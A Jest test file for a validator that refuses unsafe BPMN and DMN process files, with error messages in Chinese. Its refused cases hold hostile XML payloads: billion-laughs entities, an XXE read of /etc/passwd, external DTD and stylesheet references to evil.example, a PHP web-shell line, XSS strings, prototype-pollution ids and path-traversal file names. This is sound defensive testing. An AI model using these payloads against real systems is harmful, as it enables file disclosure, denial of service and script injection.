import { describe, expect, it } from '@jest/globals';
import { parseDiagram } from '../../../../processes/package/parse-diagram.js';
import { readPackage } from '../../../../processes/package/package-files.js';
import { fileLimits } from '../../../../processes/package/safe-xml.js';
import { refusal } from './refusal.js';

const HEAD = '<?xml version="1.0" encoding="UTF-8"?>\n';
const OPEN =
  '<bpmn:definitions xmlns:bpmn="http://www.omg.org/spec/BPMN/20100524/MODEL" xmlns:zeebe="http://camunda.org/schema/zeebe/1.0" id="d">';
const DMN =
  '<definitions xmlns="https://www.omg.org/spec/DMN/20191111/MODEL/" id="d" name="d" namespace="n">';

/** A diagram with something inside its root. */
const diagram = (inner: string): string => `${HEAD}${OPEN}${inner}</bpmn:definitions>`;
const documented = (text: string): string =>
  diagram(`<bpmn:process id="p"><bpmn:documentation>${text}</bpmn:documentation></bpmn:process>`);
const named = (value: string): string => diagram(`<bpmn:process id="p" name="${value}" />`);

describe('a file of a package', () => {
  it('is safe when we drew it', async () => {
    const files = await readPackage(new URL('../../../../processes/', import.meta.url));

    const refused = files.flatMap(({ name, content }) => refusal(name, content) ?? []);

    expect(refused).toEqual([]);
  });

  it.each([
    ['a condition that compares', documented('=amount &lt; limit and form = "x"')],
    ['a link in a text', documented('依据：https://www.spp.gov.cn/flfg/')],
    ['CDATA', documented('<![CDATA[金额 < 上限]]>')],
    ['a comment', diagram('<!-- 一般案件 -->')],
    ['a byte order mark', `\uFEFF${diagram('')}`],
    ['no XML declaration', `${OPEN}</bpmn:definitions>`],
    ['rare characters', named('𠮷田')],
    ['an icon that is embedded', diagram(icon('data:image/svg+xml,%3Csvg%3E%3C/svg%3E'))],
  ])('is safe with %s', (_what, content) => {
    expect(refusal('own-review.bpmn', content)).toBeNull();
  });

  it.each([
    [
      'entities that multiply (billion laughs)',
      `${HEAD}<!DOCTYPE d [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>${OPEN}&b;</bpmn:definitions>`,
      '第 2 行第 1 列：含有文档类型或实体声明',
    ],
    [
      'an entity from a file (XXE)',
      `${HEAD}<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>${OPEN}&x;</bpmn:definitions>`,
      '含有文档类型或实体声明',
    ],
    [
      'a document type of another server',
      `${HEAD}<!DOCTYPE d SYSTEM "http://evil.example/d.dtd">${OPEN}</bpmn:definitions>`,
      '含有文档类型或实体声明',
    ],
    ['a document type within the root', diagram('<!DOCTYPE d>'), '含有文档类型或实体声明'],
    ['an entity nobody declared', documented('&evil;'), '未知的实体引用'],
    ['an entity in an attribute', named('&evil;'), '未知的实体引用'],
    [
      'a style sheet',
      `${HEAD}<?xml-stylesheet href="http://evil.example/x.xsl"?>${OPEN}</bpmn:definitions>`,
      '处理指令',
    ],
    ['a PHP instruction', diagram('<?php system($_GET[0]); ?>'), '处理指令'],
    [
      'another encoding',
      `<?xml version="1.0" encoding="UTF-7"?>${OPEN}</bpmn:definitions>`,
      'UTF-8',
    ],
    [
      'a script in an SVG in a documentation',
      documented('&lt;svg onload=alert(1)&gt;'),
      '网页标记',
    ],
    ['a script hidden in CDATA', documented('<![CDATA[<script>alert(1)</script>]]>'), '网页标记'],
    ['a script in pieces of CDATA', documented('&lt;<![CDATA[script>]]>'), '网页标记'],
    ['a script in references', documented('&#60;script&#x3E;'), '网页标记'],
    ['a reference that saxen cuts to "<"', documented('&#65596;script>'), '字符引用 &#65596;'],
    ['SVG elements', diagram('<svg xmlns="http://www.w3.org/2000/svg" />'), '未知的命名空间'],
    ['XHTML elements', diagram('<h:a xmlns:h="http://www.w3.org/1999/xhtml" />'), '未知的命名空间'],
    ['a prefix nobody declared', diagram('<evil:run />'), '没有声明命名空间'],
    [
      'an attribute whose prefix nobody declared',
      diagram('<bpmn:process x:y="1" />'),
      '没有声明命名空间',
    ],
    [
      'a script task in JavaScript',
      diagram('<bpmn:scriptTask><bpmn:script>1</bpmn:script></bpmn:scriptTask>'),
      '脚本（script）',
    ],
    [
      'an event handler as attribute',
      diagram('<bpmn:process onload="alert(1)" />'),
      '事件处理程序',
    ],
    ['an event handler in a text', named('&quot; onerror=alert(1)'), '事件处理程序'],
    ['an address that runs', named('javascript:alert(1)'), '可执行的地址'],
    ['an address that runs, split', named('java&#10;script&#x200b;:alert(1)'), '可执行的地址'],
    ['a page as address', named('data:text/html;base64,PHNjcmlwdD4='), '可执行的地址'],
    [
      'an import',
      diagram('<bpmn:import importType="x" location="http://evil.example/x.bpmn" namespace="n" />'),
      'import',
    ],
    [
      'a schema of another server',
      `${HEAD}${OPEN.replace(' id="d"', ' xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="a http://evil.example/a.xsd"')}</bpmn:definitions>`,
      '引用了文件以外的',
    ],
    ['an icon that is fetched', diagram(icon('https://evil.example/pixel.png')), '不是嵌入的图片'],
    [
      'an icon that is markup',
      diagram(icon('data:image/svg+xml;utf8,&lt;svg onload=alert(1)&gt;')),
      '不是嵌入的图片',
    ],
    [
      'a name of the prototype as id',
      diagram('<bpmn:process id="__proto__" />'),
      '标识 __proto__ 不正确',
    ],
    [
      'a name of the prototype as attribute',
      diagram('<bpmn:process __proto__="x" />'),
      '属性名 __proto__',
    ],
    [
      'an id used twice',
      diagram('<bpmn:process id="p" /><bpmn:process id="p" />'),
      '标识 p 用了两次',
    ],
    ['an id with markup', diagram('<bpmn:process id="a&quot;&gt;" />'), '标识 a">'],
    ['a control character', named('a\u0008b'), '不允许的字符（U+0008）'],
    ['a NUL by reference', named('&#0;'), '字符引用 &#0;'],
    ['half a character', named('\uD800'), '不允许的字符（U+D800）'],
    ['a tag that is not closed', `${HEAD}${OPEN}<bpmn:process>`, '元素 bpmn:process 没有结束'],
    [
      'tags that cross',
      diagram('<bpmn:process><bpmn:task></bpmn:process></bpmn:task>'),
      '元素 bpmn:task 没有结束',
    ],
    ['an attribute given twice', diagram('<bpmn:process id="a" id="b" />'), '写了两次'],
    ['an attribute without quotes', diagram('<bpmn:process id=a />'), '属性写法不正确'],
    ['a quote that does not end', `${HEAD}<bpmn:definitions a="`, '缺少结束引号'],
    ['a comment that does not end', diagram('<!-- x'), '注释'],
    ['CDATA that does not end', diagram('<![CDATA[ x'), 'CDATA 没有结束'],
    ['two roots', `${diagram('')}${OPEN}</bpmn:definitions>`, '两个根元素'],
    ['text after the root', `${diagram('')}x`, '根元素之外有文字'],
    ['nothing in it', '', '没有任何元素'],
    ['a picture', '\u0089PNG\r\n', '不允许的字符（U+0089）'],
    ['a table in its place', `${HEAD}${DMN}</definitions>`, '不是 BPMN 2.0 流程图'],
    [
      'a root of its own',
      `${HEAD}<bpmn:process xmlns:bpmn="http://www.omg.org/spec/BPMN/20100524/MODEL" />`,
      '不是 BPMN 2.0 流程图',
    ],
    [
      'a huge attribute',
      named('长'.repeat(fileLimits.attributeLength + 1)),
      `属性 name 超过 ${fileLimits.attributeLength} 字`,
    ],
    [
      'a huge text',
      documented('长'.repeat(fileLimits.textLength + 1)),
      `一段文字超过 ${fileLimits.textLength} 字`,
    ],
    [
      'a hundred thousand levels',
      `${HEAD}${OPEN}${'<bpmn:a>'.repeat(100_000)}`,
      `嵌套超过 ${fileLimits.depth} 层`,
    ],
    [
      'a hundred thousand elements',
      diagram('<bpmn:a/>'.repeat(100_000)),
      `元素超过 ${fileLimits.elements} 个`,
    ],
    [
      'many attributes',
      diagram(`<bpmn:a ${Array.from({ length: 41 }, (_, n) => `a${n}="1"`).join(' ')} />`),
      '的属性超过 40 个',
    ],
    ['more than two megabytes', named('字'.repeat(700_000)), '文件超过 2 MB'],
  ])('is refused with %s', (_what, content, why) => {
    expect(refusal('own-review.bpmn', content)).toContain(why);
  });

  it.each([
    [
      'exactly as deep as allowed',
      `${'<bpmn:a>'.repeat(fileLimits.depth - 1)}${'</bpmn:a>'.repeat(fileLimits.depth - 1)}`,
    ],
    [
      'an attribute exactly as long as allowed',
      `<bpmn:a name="${'x'.repeat(fileLimits.attributeLength)}" />`,
    ],
    ['a text exactly as long as allowed', `<bpmn:a>${'x'.repeat(fileLimits.textLength)}</bpmn:a>`],
  ])('is safe when it is %s', (_what, inner) => {
    expect(refusal('own-review.bpmn', diagram(inner))).toBeNull();
  });

  it.each([
    '../secret.bpmn',
    'forms/../../x.form',
    'Own Review.bpmn',
    'review.exe',
    'forms/x.bpmn',
    '/etc/x.dmn',
    '',
  ])('is refused under the name “%s”', (name) => {
    expect(refusal(name, diagram(''))).toContain('文件名应为');
  });

  it('says the line and the column of what is wrong', () => {
    const content = `${HEAD}${OPEN}\n  <bpmn:process id="p"\n    name=x />\n</bpmn:definitions>`;

    const said = refusal('own-review.bpmn', content);

    expect(said).toBe(
      '文件 own-review.bpmn 不能使用。第 4 行第 5 列：元素 bpmn:process 的属性写法不正确。',
    );
  });

  it('is held to more than the parser behind it, which skips a document type without a word', async () => {
    const content = `${HEAD}<!DOCTYPE d SYSTEM "http://evil.example/d.dtd">${OPEN}</bpmn:definitions>`;

    const parsed = await parseDiagram('own-review.bpmn', content);

    expect(parsed.$type).toBe('bpmn:Definitions');
    expect(refusal('own-review.bpmn', content)).not.toBeNull();
  });
});

describe('a decision table', () => {
  it('may point into its own file', () => {
    const content = `${HEAD}${DMN}<requiredInput href="#amount" /></definitions>`;

    expect(refusal('own-routing.dmn', content)).toBeNull();
  });

  it.each([
    [
      'points to another server',
      `${HEAD}${DMN}<requiredInput href="http://evil.example/x" /></definitions>`,
      '引用了文件以外的',
    ],
    ['is a diagram', diagram(''), '不是 DMN 1.3 决策表'],
  ])('is refused when it %s', (_what, content, why) => {
    expect(refusal('own-routing.dmn', content)).toContain(why);
  });
});

function icon(value: string): string {
  return `<bpmn:task id="t" zeebe:modelerTemplateIcon="${value}" />`;
}
